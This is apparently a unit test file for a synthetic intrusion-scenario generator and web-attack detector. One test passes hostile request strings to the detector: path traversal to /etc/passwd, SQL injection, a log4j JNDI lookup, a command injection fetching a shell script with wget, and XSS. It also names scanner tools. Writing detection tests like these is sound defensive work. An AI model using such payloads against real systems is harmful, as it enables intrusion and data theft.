// The demo scenario in-process (so that the sanitizer builds run the
// generator): the same seed gives the same bytes with one thread or several,
// and the attempt definitions the ground truth is counted with.

#include "vigil/synth/scenario.h"

#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>
#include <string>

#include <gtest/gtest.h>

#include "scenario_internal.h"

namespace vigil::synth {
namespace {

namespace fs = std::filesystem;

std::map<std::string, std::string> tree(const fs::path& root) {
  std::map<std::string, std::string> files;
  for (const auto& e : fs::recursive_directory_iterator(root)) {
    if (!e.is_regular_file()) continue;
    std::ifstream in(e.path(), std::ios::binary);
    std::stringstream text;
    text << in.rdbuf();
    files[fs::relative(e.path(), root).string()] = text.str();
  }
  return files;
}

TEST(Scenario, SameBytesWithOneThreadOrThree) {
  const fs::path base = fs::path(::testing::TempDir()) / "vigil-scenario-unit";
  fs::remove_all(base);
  ScenarioOptions options;
  options.seed = 3;
  options.threads = 1;
  options.out_dir = (base / "one").string();
  auto one = write_scenario(options);
  ASSERT_TRUE(one.ok()) << one.error().to_string();
  options.threads = 3;
  options.out_dir = (base / "three").string();
  auto three = write_scenario(options);
  ASSERT_TRUE(three.ok()) << three.error().to_string();
  EXPECT_EQ(one->files, three->files);
  EXPECT_EQ(one->bytes, three->bytes);
  const auto a = tree(base / "one"), b = tree(base / "three");
  EXPECT_EQ(a.size(), one->files);
  for (const auto& [name, bytes] : a) {
    ASSERT_TRUE(b.contains(name)) << name;
    EXPECT_TRUE(b.at(name) == bytes) << name;
  }
  EXPECT_NE(a.at("ground_truth.json").find("\"classification\": \"espionage\""), std::string::npos);
  fs::remove_all(base);
}

TEST(Scenario, ZeroScaleIsRefused) {
  ScenarioOptions options;
  options.scale = 0;
  options.out_dir = (fs::path(::testing::TempDir()) / "vigil-scenario-zero").string();
  EXPECT_FALSE(write_scenario(options).ok());
}

TEST(ScenarioAttempts, ExploitPayloads) {
  using scenario::has_exploit_payload;
  EXPECT_TRUE(has_exploit_payload("/static/..%2f..%2fetc%2fpasswd", ""));
  EXPECT_TRUE(has_exploit_payload("/a?id=1%27%20UNION%20SELECT%20a,b", ""));
  EXPECT_TRUE(has_exploit_payload("/", "${jndi:ldap://x/a}"));
  EXPECT_TRUE(has_exploit_payload("/cgi?x=%3Bwget%20http://h/x.sh", ""));
  EXPECT_TRUE(has_exploit_payload("/s?q=%3Cscript%3E", ""));
  EXPECT_TRUE(has_exploit_payload("/%2E%2E/x", ""));
  EXPECT_FALSE(has_exploit_payload("/en/search?q=witness+protection", "Mozilla/5.0"));
  EXPECT_FALSE(has_exploit_payload("/en/cases/2024-017/judgments/decision_001.pdf", "Mozilla/5.0"));
  EXPECT_TRUE(scenario::is_scanner_agent("Mozilla/5.00 (Nikto/2.5.0)"));
  EXPECT_TRUE(scenario::is_scanner_agent("gobuster/3.6"));
  EXPECT_FALSE(scenario::is_scanner_agent("Mozilla/5.0 (compatible; bingbot/2.0)"));
}

TEST(ScenarioWorld, StoryFactsHoldForManySeeds) {
  for (uint64_t seed = 1; seed <= 20; ++seed) {
    const scenario::World w = scenario::build_world(seed, 1);
    ASSERT_GE(w.victim, 0);
    EXPECT_EQ(w.people[static_cast<size_t>(w.victim)].account, "m.keller");
    EXPECT_EQ(
        w.workstations[static_cast<size_t>(w.people[static_cast<size_t>(w.victim)].workstation)]
            .name,
        "WS-0412");
    EXPECT_EQ(w.people[static_cast<size_t>(w.trainee)].account, "t.novak");
    // Enough witness files for the bulk-read correlation (20 in 10 minutes).
    EXPECT_GE(w.intrusion.exfiltrated_docs.size(), 20u);
    EXPECT_EQ(w.intrusion.accessed_docs.size(), 2u);
    EXPECT_LT(w.intrusion.phish, w.intrusion.discovery);
    EXPECT_LT(w.intrusion.discovery, w.intrusion.dump);
    EXPECT_LT(w.intrusion.dump, w.intrusion.lateral);
    EXPECT_LT(w.intrusion.lateral, w.intrusion.collection);
    EXPECT_LT(w.intrusion.collection, w.intrusion.staging);
    EXPECT_LT(w.intrusion.staging, w.intrusion.exfiltration);
    EXPECT_LT(w.intrusion.exfiltration, w.intrusion.clearing);
    EXPECT_FALSE(w.trainee_reads.empty());
    // Accounts are unique.
    std::set<std::string> accounts;
    for (const auto& p : w.people) EXPECT_TRUE(accounts.insert(p.account).second) << p.account;
  }
}

}  // namespace
}  // namespace vigil::synth
